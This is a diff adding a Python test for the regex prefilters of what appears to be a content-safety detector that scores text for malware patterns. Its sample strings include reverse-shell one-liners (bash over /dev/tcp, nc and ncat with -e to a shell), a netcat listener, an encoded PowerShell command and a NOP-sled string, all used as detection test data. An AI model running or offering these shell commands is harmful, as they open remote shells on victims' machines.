@@ -190,3 +190,29 @@ def test_lexicon_prefilter_never_hides_a_match():
             assert safety.lexicon_hits(text) == [], text
             assert set(safety.lexicon_scores(text).values()) == {0.0}
     assert possible[7] is False
+
+
+def test_pattern_prefilters_never_hide_a_match():
+    """Where ``possible_patterns`` rules a regular expression out, it matches nothing: the scores with and
+    without the prefilters agree, on texts that hold each pattern, near misses of it, and odd cases."""
+    import pyarrow as pa
+
+    from mixassets.engine import safety
+
+    samples = [
+        "\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90",
+        "bash -i >& /DEV/TCP/10.0.0.1/4444 0>&1",
+        "nc -e /bin/sh 10.0.0.1 4444 and NCAT -E /BIN/BASH",
+        "NC\u00a0-lvnp 4444",
+        "os.dup2( s.fileno() , 0)",
+        "PowerShell.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBj",
+        "\\x90\\x90 only two, /dev/null, nc-e, powershell -h, os.dup2(x)",
+        "idiot and a calm text",
+        "",
+    ]
+    possible = safety.possible_patterns(pa.array(samples))
+    assert all(len(p) == len(safety._PATTERNS) for p in possible)
+    assert not any(possible[7]) and all(any(p) for p in possible[:6])
+    for text, patterns in zip(samples, possible, strict=True):
+        assert safety.lexicon_scores(text, patterns) == safety.lexicon_scores(text), text
+    assert sum(safety.lexicon_scores(t)["malware"] > 0 for t in samples) >= 6
